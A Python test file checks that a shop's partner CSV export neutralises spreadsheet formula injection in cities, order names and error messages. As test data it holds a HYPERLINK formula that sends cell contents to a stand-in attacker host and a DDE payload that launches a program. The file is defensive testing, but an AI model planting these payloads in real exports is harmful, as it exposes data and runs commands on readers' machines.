"""Formula injection in CSV exports: what a shopper or a partner typed never opens as a formula.

A spreadsheet evaluates a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return (https://owasp.org/www-community/attacks/CSV_Injection). The partner's
export carries text from shoppers (the city), from partners (product titles) and from
Shopify's refusals (the message); each must come out as text.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from powerpact.spreadsheets import csv_writer, neutralised
from tests.factories import OrderSyncFactory, OrderSyncLineFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def exported(as_shop, partner) -> list[dict[str, str]]:
    response = as_shop("/partner/orders.csv", partner)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def test_a_shoppers_hyperlink_formula_in_the_city_comes_out_as_text(as_shop, personas):
    order = OrderSyncFactory(partner=personas.alice, ship_to_city=HYPERLINK)
    OrderSyncLineFactory(order_sync=order)
    (row,) = exported(as_shop, personas.alice)
    assert row["ship_to_city"] == "'" + HYPERLINK


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_text_column_is_neutralised_for_each_formula_start(as_shop, personas, start):
    order = OrderSyncFactory(
        partner=personas.alice,
        bubbly_order_name=f"{start}1+1",
        ship_to_city=f"{start}cmd|' /C calc'!A0",
        error_message=f"{start}SUM(1,2)",
        failed=True,
    )
    OrderSyncLineFactory(order_sync=order, quantity=1, title="x")
    (row,) = exported(as_shop, personas.alice)
    for column in ("retail_order", "ship_to_city", "message"):
        assert row[column].startswith("'" + start), (column, row[column])


def test_harmless_text_is_left_as_it_was(as_shop, personas):
    order = OrderSyncFactory(partner=personas.alice, ship_to_city="Portland", error_message="")
    OrderSyncLineFactory(order_sync=order, quantity=2, title="House Blend")
    (row,) = exported(as_shop, personas.alice)
    assert row["ship_to_city"] == "Portland"
    assert row["items"] == "2 x House Blend"


def test_numbers_we_write_stay_numbers_and_text_that_looks_like_one_does_not():
    out = io.StringIO()
    csv_writer(out).writerow(["refund", Decimal("-5.00"), "-5.00", 3, None])
    assert out.getvalue() == '"refund",-5.00,"\'-5.00",3,""\r\n'


def test_every_text_cell_is_quoted_so_a_separator_cannot_start_a_new_cell():
    """OWASP: a comma or a quote in the text must not open a cell that starts a formula."""
    out = io.StringIO()
    csv_writer(out).writerow(["Portland,=1+1", 'say "=2+2"'])
    assert out.getvalue() == '"Portland,=1+1","say ""=2+2"""\r\n'
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["Portland,=1+1", 'say "=2+2"']


def test_neutralised_leaves_non_text_alone():
    assert neutralised(Decimal("-1")) == Decimal("-1")
    assert neutralised(-2) == -2
    assert neutralised(True) == "True"
    assert neutralised(None) == ""
    assert neutralised("'=already") == "'=already"
